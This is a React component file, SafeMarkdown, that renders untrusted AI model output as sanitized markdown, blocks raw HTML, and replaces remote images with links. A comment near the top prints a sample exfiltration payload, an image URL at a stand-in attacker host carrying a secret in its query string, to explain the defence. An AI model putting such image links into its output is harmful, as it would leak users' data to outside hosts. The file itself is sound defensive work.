import { ImageOff } from 'lucide-react';
import Markdown, { type Components } from 'react-markdown';
import rehypeSanitize from 'rehype-sanitize';
import remarkGfm from 'remark-gfm';
import { cn } from '@/lib/cn';

// Model output is untrusted: no raw HTML (react-markdown drops it; sanitize is the second
// lock), and no image is fetched, because a remote image URL can carry data out
// (`![x](https://evil.example/a.png?d=secret)`). Images become links a person can choose to open.
// The page owns h1 (the task) and h2 (its sections); headings inside model output sit below.
const headingClass = 'mt-2 mb-1 font-semibold text-fg';
const demoted: Components = {
  h1: ({ children }) => <h3 className={cn(headingClass, 'text-[15px]')}>{children}</h3>,
  h2: ({ children }) => <h4 className={cn(headingClass, 'text-[14px]')}>{children}</h4>,
  h3: ({ children }) => <h5 className={cn(headingClass, 'text-[13px]')}>{children}</h5>,
  h4: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
  h5: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
  h6: ({ children }) => <h6 className={cn(headingClass, 'text-[13px]')}>{children}</h6>,
};

const components: Components = {
  ...demoted,
  img: ({ src, alt }) => {
    const href = typeof src === 'string' ? src : '';
    let host: string;
    try {
      host = new URL(href).host;
    } catch {
      host = '';
    }
    return (
      <a
        href={href || undefined}
        target="_blank"
        rel="noopener noreferrer nofollow"
        className="inline-flex items-center gap-1 rounded border border-border bg-surface px-1.5 py-0.5 text-xs text-muted no-underline hover:text-fg"
        title={href ? `Image not loaded: ${href}` : 'Image not loaded'}
      >
        <ImageOff className="h-3 w-3" aria-hidden />
        {alt ? `Image: ${alt}` : 'Image'}
        {host && <span className="font-mono">({host})</span>}
      </a>
    );
  },
  a: ({ href, children }) => (
    <a
      href={href}
      target="_blank"
      rel="noopener noreferrer nofollow"
      className="text-accent underline underline-offset-2"
    >
      {children}
    </a>
  ),
  pre: ({ children }) => (
    <pre className="overflow-x-auto rounded-md border border-border bg-surface p-2 text-[12px]">
      {children}
    </pre>
  ),
  code: ({ children, className }) => (
    <code className={cn('font-mono text-[12px]', className)}>{children}</code>
  ),
  table: ({ children }) => (
    <div className="overflow-x-auto">
      <table className="border-collapse text-[12px]">{children}</table>
    </div>
  ),
  th: ({ children }) => (
    <th className="border border-border bg-surface px-2 py-1 text-left font-medium">{children}</th>
  ),
  td: ({ children }) => <td className="border border-border px-2 py-1 align-top">{children}</td>,
};

export interface SafeMarkdownProps {
  text: string;
  className?: string;
}

/** Markdown for untrusted text: GFM, sanitized, no raw HTML, no remote images. */
export default function SafeMarkdown({ text, className }: SafeMarkdownProps) {
  return (
    <div
      className={cn(
        'min-w-0 text-[13px] leading-relaxed break-words text-fg',
        '[&_blockquote]:border-l-2 [&_blockquote]:border-border-strong [&_blockquote]:pl-3 [&_blockquote]:text-muted',
        '[&_h1]:text-base [&_h1]:font-semibold [&_h2]:text-[14px] [&_h2]:font-semibold [&_h3]:font-semibold',
        '[&_li]:my-0.5 [&_ol]:list-decimal [&_ol]:pl-5 [&_ul]:list-disc [&_ul]:pl-5',
        '[&>*+*]:mt-2 [&_:not(pre)>code]:rounded [&_:not(pre)>code]:bg-surface-2 [&_:not(pre)>code]:px-1',
        className,
      )}
    >
      <Markdown
        remarkPlugins={[remarkGfm]}
        rehypePlugins={[rehypeSanitize]}
        skipHtml
        components={components}
      >
        {text}
      </Markdown>
    </div>
  );
}
